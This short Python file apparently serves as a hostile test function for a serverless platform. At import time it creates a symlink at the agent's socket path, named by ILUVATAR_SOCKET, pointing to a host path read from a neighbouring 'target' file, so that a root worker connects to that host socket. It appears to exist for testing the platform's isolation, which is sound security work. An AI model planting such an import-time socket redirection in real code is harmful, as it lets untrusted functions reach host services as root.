# A function that tries to redirect the worker: while it is imported (before the agent
# listens), it puts a symlink where the agent's socket will be, pointing at a host path
# named in the file `target` next to this one. A worker that follows it connects, as root,
# to that host socket instead of to the agent. The agent's own socket replaces the link
# once the import ends.
import os
import time

_here = os.path.dirname(os.path.abspath(__file__))
with open(os.path.join(_here, "target")) as f:
    _target = f.read().strip()
_sock = os.environ["ILUVATAR_SOCKET"]
os.symlink(_target, _sock)
time.sleep(1)


def main(args):
    return {"from": "the function"}
